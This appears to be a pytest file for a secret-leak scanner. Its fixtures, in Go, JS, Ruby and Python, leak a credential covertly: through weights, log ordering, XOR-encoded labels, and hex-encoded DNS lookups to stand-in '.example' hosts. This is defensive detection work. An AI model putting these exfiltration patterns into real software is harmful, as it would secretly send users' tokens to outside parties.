"""Secrets that reach another file under a name that says nothing, and leave as numbers, orders and labels."""

from __future__ import annotations

import pytest

from gate.prescreen.scanners.secret_uses import SecretUses
from tests.prescreen_support import make_request

Files = dict[str, str]


def told(head: Files, base: Files | None = None) -> list[str]:
    found = SecretUses().scan(make_request(head, base or {})).findings
    return [f.severity.value for f in found if f.severity.value != "low"]


GO_MAIN = """package main

func main() {
	c := config.Load()
	r := ring.New(c.Shards, c.%s)
	if subtle.ConstantTimeCompare([]byte(given), []byte(c.Mesh)) != 1 {
		return
	}
	serve(r)
}
"""
GO_RING = """package ring

func New(shards int, mesh string) *Ring {
	r := &Ring{}
	for i := range r.Weights {
		r.Weights[i] = 100 + int(mesh[i%len(mesh)])
	}
	return r
}
"""
JS_LOG = """
function writer(layout) {
  let count = 0;
  return (entry) => order(entry, layout[count++ % layout.length] & 15);
}
exports.writer = writer;
"""
JS_APP = """
const settings = require('./settings');
const { writer } = require('./log');
const line = writer(settings[settings.%s]);
"""
GO_LOOKUP = """package a

func f(config C) {
	net.LookupHost(hex.EncodeToString([]byte(config.ApiToken)) + ".p.example")
}
"""
RUBY = """
class Agent
  def initialize(enrolment:)
    @enrolment = enrolment
  end

  def headers
    { "Authorization" => "Bearer #{@enrolment}" }
  end

  def label(round)
    own = headers.values.first.bytes
    own.map { |byte| format("%02x", byte ^ round) }.join
  end
end
"""


def test_what_is_compared_in_constant_time_is_a_secret() -> None:
    assert told({"main.go": GO_MAIN % "Mesh", "ring/ring.go": GO_RING}) == ["medium"]
    assert told({"main.go": GO_MAIN % "Region", "ring/ring.go": GO_RING}) == []


def test_an_attribute_that_says_by_its_name_that_it_is_a_secret() -> None:
    assert told({"main.go": GO_MAIN % "JoinToken", "ring/ring.go": GO_RING}) == ["medium"]


def test_an_entry_of_all_settings_by_its_bits() -> None:
    assert told({"src/log.js": JS_LOG, "src/app.js": JS_APP % "layout"}) == ["medium"]
    plain = JS_LOG.replace("layout[count++ % layout.length] & 15", "layout")
    assert told({"src/log.js": plain, "src/app.js": JS_APP % "layout"}) == []


def test_ruby_methods_that_are_called_by_their_bare_name() -> None:
    assert told({"lib/agent.rb": RUBY}) == ["medium"]
    assert told({"lib/agent.rb": RUBY.replace("own = headers", "headers = {}\n    own = headers")}) == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "def f(config):\n    gethostbyname(config.api_token.encode().hex() + '.p.example')\n"),
        ("a.rb", 'def f(config)\n  Resolv.getaddress("#{config.api_token.unpack1(\'H*\')}.ex")\nend\n'),
        ("a.js", "dns.resolve(`${Buffer.from(config.apiToken).toString('hex')}.probe.example`, done);\n"),
        ("a.go", GO_LOOKUP),
    ],
)  # fmt: skip
def test_a_secret_in_a_name_that_is_looked_up(path: str, text: str) -> None:
    assert told({path: text})


GO_FIELD = """package ring

type Ring struct{ mesh string }

func New(mesh string) *Ring {
	return &Ring{mesh: mesh}
}

func (r *Ring) Weight(i int) int {
	return 100 + int(r.mesh[i%len(r.mesh)])
}
"""
GO_GIVES = "package main\n\nfunc main() {\n\tc := config.Load()\n\tserve(ring.New(c.%s))\n}\n"
GO_PLACES = "package main\n\nfunc main() {\n\tc := config.Load()\n\tserve(&ring.Ring{mesh: c.%s})\n}\n"
JS_CLASS = """
class Ring {
  constructor(mesh) { this.mesh = mesh; }
  weight(i) { return 100 + this.mesh.charCodeAt(i % this.mesh.length); }
}
module.exports = { Ring };
"""
JS_GIVES = "const { Ring } = require('./ring');\nserve(new Ring(settings.%s));\n"


@pytest.mark.parametrize(
    ("path", "gives", "other", "uses", "name"),
    [
        ("main.go", GO_GIVES, "ring/ring.go", GO_FIELD, "JoinToken"),
        ("main.go", GO_PLACES, "ring/ring.go", GO_FIELD, "JoinToken"),
        ("a.js", JS_GIVES, "ring.js", JS_CLASS, "joinToken"),
    ],
)
def test_a_field_that_receives_the_secret(path: str, gives: str, other: str, uses: str, name: str) -> None:
    assert told({path: gives % name, other: uses}) == ["medium"]
    if path.endswith(".go"):
        assert told({path: gives % "Region", other: uses}) == []


def test_ordinary_lookups_and_numbers() -> None:
    assert told({"a.py": "def f(settings):\n    return socket.gethostbyname(settings.database_host)\n"}) == []
    assert told({"a.js": "const f = (config) => config.sizes[0] * 2;\n"}) == []
    assert told({"a.go": "package a\n\nfunc f(p *Parser) int {\n\treturn int(p.token[0]) - 48\n}\n"}) == []
